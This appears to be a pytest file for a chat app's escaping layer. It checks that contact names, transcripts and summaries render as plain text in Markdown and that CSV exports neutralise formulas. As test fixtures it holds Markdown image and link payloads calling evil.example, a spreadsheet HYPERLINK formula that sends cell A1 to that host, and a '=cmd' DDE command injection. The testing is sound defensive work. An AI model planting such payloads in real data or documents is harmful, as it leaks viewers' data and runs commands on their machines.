"""User data inside the Markdown the chat renders stays text; CSV exports never carry a
formula a spreadsheet would run.

A contact named `![x](http://evil/pixel)` used to make every viewer's browser fetch that
URL: the tools interpolated names, companies, transcripts and summaries into Markdown
as they were. Answers are checked with a CommonMark + GFM-tables parser (markdown-it):
no image, link, autolink or HTML may come out of user data."""

from __future__ import annotations

import csv
import io
import re
import uuid
from datetime import UTC, date, datetime, timedelta
from typing import Any

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token

from accounts.models import Role
from chat_app.agent import build_agent
from chat_app.llm.offline import OfflineChatModel
from chat_app.notifications import call_ended_text
from chat_app.turns import answer_message
from core.csv_safe import csv_cell, write_csv
from core.markdown import Md, md_escape
from insights.analytics import Table, to_csv, to_markdown
from insights.models import CallInsight
from telephony.models import Call
from tests.accounts.helpers import make_member
from tests.insights.helpers import make_contact, seed_call
from tests.telephony.helpers import fund
from tools.context import AgentContext

PIXEL = "![x](http://evil.example/pixel)"
HOSTILE = [
    PIXEL,
    "[pay here](http://evil.example/pay)",
    "<img src=http://evil.example/a.png>",
    "<http://evil.example/auto>",
    "[ref][1]\n\n[1]: http://evil.example/ref",
    "`code` **bold** _em_ ~~gone~~",
    "# Heading",
    "> quote",
    "- item",
    "12. item",
    "| a | b |",
    "&#33;[x](http://evil.example/entity)",
    "back\\slash ![y](http://evil.example/p2)",
    "http://evil.example/bare",
]
FORBIDDEN = {
    "image",
    "link_open",
    "html_inline",
    "html_block",
    "code_inline",
    "strong_open",
    "em_open",
    "s_open",
    "heading_open",
    "blockquote_open",
    "bullet_list_open",
    "ordered_list_open",
    "table_open",
    "fence",
    "code_block",
}

AGENT = build_agent(OfflineChatModel())
MD = MarkdownIt("commonmark").enable(["table", "strikethrough"])


def _tokens(markdown: str) -> list[Token]:
    flat: list[Token] = []
    for token in MD.parse(markdown):
        flat.append(token)
        flat.extend(token.children or [])
    return flat


def _markup(markdown: str) -> set[str]:
    """The kinds of markup a renderer would make of `markdown` that user data must not."""
    return {t.type for t in _tokens(markdown)} & FORBIDDEN


OWN_CALL_PAGE = re.compile(re.escape(AgentContext.base_url) + r"/calls/[0-9a-f-]{36}")


def _fetches(markdown: str) -> list[str]:
    """Every URL the rendered Markdown would make a browser load or link to."""
    urls = [
        str(t.attrs.get("src") or t.attrs.get("href"))
        for t in _tokens(markdown)
        if t.type in ("image", "link_open")
    ]
    return urls + [t.content for t in _tokens(markdown) if t.type.startswith("html")]


def _text(markdown: str) -> str:
    return "".join(t.content for t in _tokens(markdown) if t.type in ("text", "softbreak"))


@pytest.mark.parametrize("value", HOSTILE)
def test_escaped_text_renders_as_itself_and_as_nothing_else(value: str):
    folded = " ".join(value.split())
    for placed in (f"Contact: {md_escape(value)}.", str(md_escape(value)), f"- {md_escape(value)}"):
        assert _markup(placed.removeprefix("- ")) == set(), placed
        assert _fetches(placed) == []
    assert _text(md_escape(value)) == folded


def test_escaping_is_done_once():
    once = md_escape(PIXEL)
    assert isinstance(once, Md) and md_escape(once) is once
    assert md_escape(None) == "" and md_escape("Dana Lee") == "Dana Lee"


def _company_table(rows: list[tuple[Any, ...]]) -> Table:
    start = datetime(2026, 11, 1, tzinfo=UTC)
    return Table(
        columns=("company", "calls"),
        rows=rows,
        dimension="company",
        metrics=("calls",),
        period_start=start,
        period_end=start + timedelta(days=30),
    )


def test_a_markdown_table_keeps_hostile_cells_in_their_cell():
    table = _company_table([(PIXEL, 3), ("a | b", 2)])
    rendered = to_markdown(table)
    assert _fetches(rendered) == []
    cells = [t.children[0].content for t in MD.parse(rendered) if t.type == "inline" and t.children]
    assert PIXEL in cells and "a | b" in cells


async def _hostile_call(db) -> tuple[Any, Any]:
    rep = await make_member(db, Role.REP)
    await fund(db, rep.actor.workspace_id, 100)
    contact = await make_contact(db, rep.actor, name=PIXEL, company="[pay](http://evil.example/c)")
    await seed_call(
        db,
        contact,
        rep.actor.user_id,
        at=datetime.now(UTC) - timedelta(hours=1),
        duration_s=40,
        cost_mc=40_000,
        outcome="interested",
        turns=[
            ("agent", "Hi, this is an AI assistant. This call is recorded."),
            ("prospect", "Sure. <img src=http://evil.example/t.png> ![t](http://evil.example/t)"),
        ],
    )
    return rep, contact


async def _ask(db, actor, text: str):
    return await answer_message(db, AGENT, actor, text=text, message_id=str(uuid.uuid4()))


async def test_a_hostile_contact_and_transcript_fetch_nothing_in_any_answer(db):
    rep, _ = await _hostile_call(db)
    asked = {
        "list my calls": "evil",
        "what's the status of my last call": "evil",
        "show the transcript of my last call": "t.png",
        "summarize my last call": "Call",
        "what objections came up on my last call": "Call",
        "show calls with nobody-at-all ![z](http://evil.example/q)": "nobody",
    }
    for question, expected in asked.items():
        answer = await _ask(db, rep.actor, question)
        assert expected in answer.body, (question, answer.body)
        # The only links are the app's own call pages, which call tables link ids to.
        foreign = [url for url in _fetches(answer.body) if not OWN_CALL_PAGE.fullmatch(url)]
        assert foreign == [], (question, answer.body)
        assert not _markup(answer.body) & {"image", "html_inline"}, answer.body


async def test_a_call_ended_notice_escapes_the_name_and_summary(db):
    _, contact = await _hostile_call(db)
    call = Call(id=uuid.uuid4(), status="completed", duration_s=40, cost_mc=40_000)
    insight = CallInsight(
        summary="Asked for ![s](http://evil.example/s)",
        objections=["price"],
        next_steps=["[book](http://evil.example/b)"],
        outcome="interested",
    )
    text = call_ended_text(call, contact.name, insight)
    assert "evil.example" in text and _fetches(text) == []


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(start: str):
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
    assert csv_cell(formula) == "'" + formula
    rows = list(csv.reader(io.StringIO(write_csv(["name"], [[formula], [-5], [date(2026, 1, 2)]]))))
    assert rows == [["name"], ["'" + formula], ["-5"], ["2026-01-02"]]


def test_the_analytics_csv_neutralises_a_hostile_company():
    table = _company_table([("=cmd|' /C calc'!A0", 3), ("Acme", -1)])
    rows = list(csv.reader(io.StringIO(to_csv(table))))
    assert rows == [["company", "calls"], ["'=cmd|' /C calc'!A0", "3"], ["Acme", "-1"]]
